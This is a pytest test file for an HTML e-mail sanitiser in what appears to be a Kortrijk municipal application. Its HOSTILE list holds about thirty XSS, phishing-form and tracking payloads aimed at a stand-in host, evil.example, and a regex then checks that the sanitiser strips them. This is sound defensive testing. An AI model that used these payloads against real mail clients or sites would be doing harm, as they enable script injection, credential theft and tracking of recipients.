"""Hostile mail bodies come out harmless, and ordinary formatting survives."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from kortrijk_cockpit.services.mail_html import (
    MAX_HTML_CHARS,
    NO_CONTENT,
    TOO_BIG_NOTE,
    safe_body,
    sanitise_html,
    text_to_html,
)


def clean(body: str, *, allow: bool = False) -> str:
    return sanitise_html(body, allow_remote_images=allow).html


HOSTILE = [
    '<script>alert(1)</script><p>hallo</p>',
    '<p onclick="alert(1)" onmouseover="x()">hallo</p>',
    '<img src="x" onerror="alert(1)"><p>hallo</p>',
    '<a href="javascript:alert(1)">hallo</a>',
    '<a href="JaVaScRiPt:alert(1)">hallo</a>',
    '<a href=" javascript:alert(1)">hallo</a>',
    '<a href="vbscript:msgbox(1)">hallo</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">hallo</a>',
    '<img src="data:image/png;base64,iVBORw0KGgo="><p>hallo</p>',
    '<iframe src="https://evil.example/frame">x</iframe><p>hallo</p>',
    '<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e">'
    '<p>hallo</p>',
    '<form action="https://evil.example/post"><input name="pw" value="x">'
    '<button>ok</button></form><p>hallo</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><p>hallo</p>',
    '<base href="https://evil.example/"><p>hallo</p>',
    '<link rel="stylesheet" href="https://evil.example/s.css"><p>hallo</p>',
    '<link rel="prefetch" href="https://evil.example/p"><p>hallo</p>',
    '<style>@import url(https://evil.example/i.css); p {background: url(https://evil.example/b)}'
    '</style><p>hallo</p>',
    '<p style="background-image: url(https://evil.example/b.png)">hallo</p>',
    '<p style="width: expression(alert(1))">hallo</p>',
    '<p style="color: red; background: u\\72l(https://evil.example/e)">hallo</p>',
    '<table background="https://evil.example/bg.png"><tr><td background="https://evil.example/'
    'td.png">hallo</td></tr></table>',
    '<img srcset="https://evil.example/1x.png 1x" alt="x"><p>hallo</p>',
    '<svg><image href="https://evil.example/svg.png"/></svg><p>hallo</p>',
    '<svg><script>alert(1)</script></svg><p>hallo</p>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math><p>hallo</p>',
    '<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"></video>'
    '<audio src="https://evil.example/a.mp3"></audio><p>hallo</p>',
    '<p>hallo<!-- <img src="https://evil.example/c.png"> --></p>',
    '<img src="//evil.example/protocol-relative.png"><p>hallo</p>',
    '<img src="relative/path.png"><p>hallo</p>',
    '<body background="https://evil.example/body.png" onload="x()"><p>hallo</p></body>',
    '<p><a href="https://ok.example/" target="_blank" ping="https://evil.example/ping">'
    'hallo</a></p>',
    '<div style="@import \'https://evil.example/x.css\'">hallo</div>',
    '<input type="image" src="https://evil.example/in.png"><p>hallo</p>',
    '<p>hallo</p><noscript><img src="https://evil.example/n.png"></noscript>',
]

FORBIDDEN = re.compile(
    r"<script|<style|<iframe|<object|<embed|<form|<input|<meta|<base|<link|<svg|<math|"
    r"<video|<audio|\son\w+=|javascript:|vbscript:|data:|url\(|expression|@import|"
    r"background=|srcset|ping=|poster=|evil\.example",
    re.IGNORECASE)


@pytest.mark.parametrize("body", HOSTILE)
def test_hostile_markup_is_neutralised(body: str) -> None:
    result = clean(body)
    assert not FORBIDDEN.search(result), result
    assert "hallo" in result


def test_remote_images_become_placeholders_unless_allowed() -> None:
    body = '<p>Zie <img src="https://news.example/logo.png" alt="logo"></p>'
    blocked = sanitise_html(body, allow_remote_images=False)
    assert blocked.blocked_images == 1
    assert "news.example" not in blocked.html
    assert 'src="cockpit-blocked:1"' in blocked.html
    allowed = sanitise_html(body, allow_remote_images=True)
    assert allowed.blocked_images == 0
    assert allowed.remote_images == ("https://news.example/logo.png",)
    assert 'src="https://news.example/logo.png"' in allowed.html


def test_even_allowed_images_never_bring_css_or_srcset_along() -> None:
    body = ('<img src="https://news.example/a.png" srcset="https://news.example/b.png 2x">'
            '<p style="background:url(https://news.example/c.png)">x</p>')
    result = sanitise_html(body, allow_remote_images=True)
    assert result.remote_images == ("https://news.example/a.png",)
    assert "b.png" not in result.html and "c.png" not in result.html


def test_formatting_survives() -> None:
    body = ('<h2>Agenda</h2><p><b>vet</b> <i>schuin</i> <u>onderlijnd</u><br>regel</p>'
            '<ul><li>een</li></ul><ol><li>twee</li></ol><blockquote>citaat</blockquote>'
            '<table border="1"><tr><td colspan="2">cel</td></tr></table>'
            '<p style="color: #c00000; font-weight: bold; position: fixed">rood</p>'
            '<font color="red" face="Calibri">oud</font>'
            '<a href="https://www.kortrijk.be/">site</a> <a href="mailto:ad@kortrijk.be">mail</a>'
            '<img src="cid:logo@kortrijk">')
    result = clean(body)
    for kept in ("<h2>Agenda</h2>", "<b>vet</b>", "<i>schuin</i>", "<u>onderlijnd</u>", "<br>",
                 "<ul><li>een</li></ul>", "<ol><li>twee</li></ol>", "<blockquote>citaat",
                 'colspan="2"', 'style="color: #c00000; font-weight: bold"',
                 '<font color="red" face="Calibri">',
                 'href="https://www.kortrijk.be/"', 'href="mailto:ad@kortrijk.be"',
                 'rel="noopener noreferrer"', 'src="cid:logo@kortrijk"'):
        assert kept in result, kept
    assert "position" not in result


def test_a_huge_body_is_cut_with_a_note() -> None:
    body = "<p>" + "Beste Hilde, dit is een lange bijlage in tekst. " * 220_000 + "</p>"
    assert len(body) > 10_000_000
    result = sanitise_html(body, allow_remote_images=False)
    assert result.truncated
    assert TOO_BIG_NOTE in result.html
    assert len(result.html) <= MAX_HTML_CHARS + 1000


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.stack: list[str] = []
        self.deepest = 0

    def handle_starttag(self, tag: str, attrs: object) -> None:
        if tag not in ("br", "img", "hr", "col"):
            self.stack.append(tag)
            self.deepest = max(self.deepest, len(self.stack))

    def handle_endtag(self, tag: str) -> None:
        assert self.stack and self.stack.pop() == tag, f"unbalanced </{tag}>"


@pytest.mark.parametrize("levels", [10_000, 100_000])
def test_deeply_nested_html_returns_balanced_and_keeps_the_text(levels: int) -> None:
    body = "<div><blockquote>" * levels + "kern" + "</blockquote></div>" * levels
    result = clean(body)
    checker = _Checker()
    checker.feed(result)
    checker.close()
    assert not checker.stack
    assert checker.deepest <= 100
    assert "kern" in result


def test_nuls_and_lone_surrogates_do_not_break_it() -> None:
    result = safe_body("<p>a\x00b \ud800 c\udfff</p>", "", allow_remote_images=False)
    assert "ab" in result.html and "\x00" not in result.html
    result.html.encode("utf-8")  # valid Unicode all the way
    text = safe_body(None, "x\x00y \udc80", allow_remote_images=False)
    text.html.encode("utf-8")


def test_plain_text_keeps_lines_and_makes_links_clickable() -> None:
    html = text_to_html("Beste,\nzie https://www.kortrijk.be/raad?x=1&y=2.\n"
                        "Of mail els@kortrijk.be <script>")
    assert "white-space: pre-wrap" in html
    assert "Beste,\nzie" in html
    assert '<a href="https://www.kortrijk.be/raad?x=1&amp;y=2">' in html
    assert '<a href="mailto:els@kortrijk.be">els@kortrijk.be</a>' in html
    assert "&lt;script&gt;" in html and "<script" not in html


def test_text_is_the_fallback_and_empty_says_so() -> None:
    assert "Hallo" in safe_body(None, "Hallo", allow_remote_images=False).html
    assert "Hallo" in safe_body("<script>x</script>", "Hallo", allow_remote_images=False).html
    assert NO_CONTENT in safe_body("", "  ", allow_remote_images=False).html
    assert NO_CONTENT in safe_body(None, "", allow_remote_images=False).html
